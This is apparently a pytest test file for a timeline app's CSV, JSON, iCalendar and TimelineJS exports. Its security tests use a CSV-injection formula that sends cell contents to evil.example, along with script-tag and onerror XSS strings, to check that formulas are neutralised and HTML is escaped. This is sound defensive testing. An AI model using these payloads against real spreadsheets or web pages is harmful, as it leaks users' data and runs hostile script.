import csv
import datetime
import io
import json

import pytest
from dom import elements, parse, text
from icalendar import Calendar

from timeline import exports
from timeline.models import Actor, Article, Category, Event, Mention

D = datetime.date


@pytest.fixture
def events(db):
    article = Article.objects.create(title="Launch report", source="Harbor Wire", published=D(2023, 4, 6),
                                     text="North Korea fired a missile on Thursday.")
    day = Event.objects.create(title="Missile launch", date=D(2023, 4, 6),
                               category=Category.objects.get(slug="missile-launch"), place="Sea of Japan")
    day.actors.add(Actor.objects.create(name="North Korea", kind="country"))
    Mention.objects.create(event=day, article=article, sentence=article.text, cue="on Thursday",
                           sentence_start=0, sentence_end=len(article.text), cue_start=28, cue_end=39)
    Event.objects.create(title="Month of launches", date=D(2023, 3, 1), precision="month")
    Event.objects.create(title="Programme", date=D(2017, 1, 1), precision="year", end_date=D(2023, 1, 1))
    Event.objects.create(title="Drills", date=D(2023, 3, 2), end_date=D(2023, 3, 4))
    return list(Event.objects.chronological().with_related())


def test_csv(events):
    rows = list(csv.DictReader(io.StringIO("".join(exports.csv_chunks(events, "http://t")))))
    assert [r["date"] for r in rows] == ["2017", "2023-03", "2023-03-02", "2023-04-06"]
    launch = rows[-1]
    assert launch["actors"] == "North Korea" and launch["cues"] == "on Thursday"
    assert launch["url"].startswith("http://t/events/")
    assert rows[1]["date_label"] == "March 2023"


def test_json(events):
    data = json.loads("".join(exports.json_chunks(events)))
    assert [d["precision"] for d in data] == ["year", "month", "day", "day"]
    assert data[0]["end_date"] == "2023"
    assert data[3]["sources"][0]["sentence"] == "North Korea fired a missile on Thursday."


def test_json_empty():
    assert json.loads("".join(exports.json_chunks([]))) == []


def test_ics_all_day_events_cover_their_period(events):
    calendar = Calendar.from_ical("".join(exports.ics_chunks(events)))
    entries = {str(e["summary"]): e for e in calendar.walk("VEVENT")}
    launch = entries["Missile launch"]
    assert str(launch["description"]) == "“North Korea fired a missile on Thursday.” (Launch report, Harbor Wire, 2023-04-06)"
    assert launch.decoded("dtstart") == D(2023, 4, 6) and launch.decoded("dtend") == D(2023, 4, 7)
    month = entries["Month of launches"]
    assert month.decoded("dtstart") == D(2023, 3, 1) and month.decoded("dtend") == D(2023, 4, 1)
    assert str(month["x-timeline-precision"]) == "month"
    assert "known to the month only" in str(month["description"])
    assert entries["Programme"].decoded("dtend") == D(2024, 1, 1)
    assert entries["Drills"].decoded("dtend") == D(2023, 3, 5)


def test_timelinejs_omits_unknown_parts(events):
    data = json.loads("".join(exports.timelinejs_chunks(events, title="Korea")))
    assert data["title"]["text"]["headline"] == "Korea"
    starts = [e["start_date"] for e in data["events"]]
    assert starts[0] == {"year": 2017}
    assert starts[1] == {"year": 2023, "month": 3}
    assert starts[3] == {"year": 2023, "month": 4, "day": 6}
    assert data["events"][2]["end_date"] == {"year": 2023, "month": 3, "day": 4}


@pytest.mark.parametrize("title", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
])
def test_csv_neutralises_formulas(db, title):
    """OWASP's CSV-injection advice: a cell a spreadsheet would run as a
    formula is prefixed with a single quote; every text column is covered."""
    article = Article.objects.create(title=title, source=title, published=D(2023, 4, 6), text=f"{title} on Monday.")
    event = Event.objects.create(title=title, summary=title, place=title, date=D(2023, 4, 3))
    event.actors.add(Actor.objects.create(name=title))
    Mention.objects.create(event=event, article=article, sentence=title, cue=title,
                           sentence_start=0, sentence_end=len(title), cue_start=0, cue_end=len(title))
    rows = list(csv.reader(io.StringIO("".join(exports.csv_chunks(Event.objects.with_related())))))
    for cell in rows[1]:
        assert not cell.startswith(exports.FORMULA_STARTS), rows[1]
    record = dict(zip(rows[0], rows[1], strict=True))
    for column in ["title", "summary", "place", "actors", "sources", "sentences", "cues"]:
        assert record[column] == "'" + title, column


def test_csv_leaves_ordinary_text_alone(events):
    rows = list(csv.DictReader(io.StringIO("".join(exports.csv_chunks(events)))))
    assert [r["title"] for r in rows] == ["Programme", "Month of launches", "Drills", "Missile launch"]


def test_timelinejs_escapes_html(db):
    category = Category.objects.create(name="<i>Talks</i>", slug="talks-html")
    Event.objects.create(title='<img src=x onerror="alert(1)">', summary="<script>alert(2)</script>",
                         date=D(2023, 4, 3), category=category)
    data = json.loads("".join(exports.timelinejs_chunks(Event.objects.with_related(), title="<b>Mine</b>")))
    item = data["events"][0]
    assert item["text"]["headline"] == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"
    assert item["text"]["text"] == "&lt;script&gt;alert(2)&lt;/script&gt;"
    assert item["group"] == "&lt;i&gt;Talks&lt;/i&gt;"
    assert data["title"]["text"]["headline"] == "&lt;b&gt;Mine&lt;/b&gt;"
    assert "<" not in json.dumps(data)


def test_timelinejs_escapes_citations(db):
    article = Article.objects.create(title="<b>Wire</b>", published=D(2023, 4, 6), text="<b>Talks</b> on Monday.")
    event = Event.objects.create(title="Talks", date=D(2023, 4, 3))
    Mention.objects.create(event=event, article=article, sentence=article.text, cue="on Monday",
                           sentence_start=0, sentence_end=len(article.text), cue_start=13, cue_end=22)
    data = json.loads("".join(exports.timelinejs_chunks(Event.objects.with_related())))
    fragment = data["events"][0]["text"]["text"]  # HTML that TimelineJS inserts as is
    assert "<b>" not in fragment and not elements(fragment, "b")  # no markup from the article runs ...
    assert "<b>Talks</b> on Monday." in text(parse(fragment).body)  # ... it is shown as the characters it holds


@pytest.mark.parametrize("write, derivations", [
    (exports.csv_chunks, False), (exports.json_chunks, True), (exports.timelinejs_chunks, False),
])
def test_exported_values_write_as_the_models_do(events, write, derivations):
    """export_events() (values and tuples, a chunk at a time) gives the
    writers what the models with their prefetched relations give them."""
    second = Article.objects.create(title="Anchored", source="", published=D(2023, 4, 7),
                                    text="A day after that, talks.")
    anchor = Mention.objects.get()
    Mention.objects.create(event=events[1], article=second, sentence=second.text, cue="A day after that",
                           sentence_start=0, sentence_end=len(second.text), cue_start=0, cue_end=16,
                           date=D(2023, 4, 7), rule="relative", tense="past", anchor=anchor)
    models = list(Event.objects.chronological().with_related(derivations=derivations))
    values = exports.export_events(Event.objects.chronological(), derivations=derivations, chunk_size=2)
    assert "".join(write(values, "http://t")) == "".join(write(models, "http://t"))


def test_exported_calendar_as_the_models_give_it(events):
    stamp = datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC)
    values = exports.export_events(Event.objects.chronological(), chunk_size=3)
    assert [exports.calendar_event(e, "http://t", stamp).to_ical() for e in values] == [
        exports.calendar_event(e, "http://t", stamp).to_ical() for e in events
    ]


@pytest.mark.parametrize("seed", range(5))
def test_folded_as_icalendar_folds(seed):
    """Lines of every length around the fold, with multi-byte characters,
    backslashes and carets where a line would end."""
    import random

    from icalendar.parser import Contentline

    rng = random.Random(seed)
    for length in range(60, 400, 7):
        line = "".join(rng.choice("ab \\^é“😀,;") for _ in range(length))
        assert exports.folded(line) == Contentline(line).to_ical().decode()


@pytest.mark.parametrize("title, summary, place", [
    ("Talks, then; a \\ split", "Line one\nline two\r\nthree\rfour \\N five", "Sea of Japan, east"),
    ("x" * 73 + "\\,", "“" * 40 + "^" * 80, "é" * 50),
    ("Short", "", ""),
])
def test_calendar_event_text_as_icalendar_writes_it(events, title, summary, place):
    """The iCalendar export's VEVENT text (calendar_event_text) is what
    icalendar writes of calendar_event(), escapes and folds included."""
    stamp = datetime.datetime(2024, 1, 2, 3, 4, 5, 678, tzinfo=datetime.UTC)
    Event.objects.update(title=title, summary=summary, place=place)
    for event in Event.objects.chronological().with_related():
        expected = exports.calendar_event(event, "http://t", stamp).to_ical().decode()
        assert exports.calendar_event_text(event, "http://t", stamp) == expected
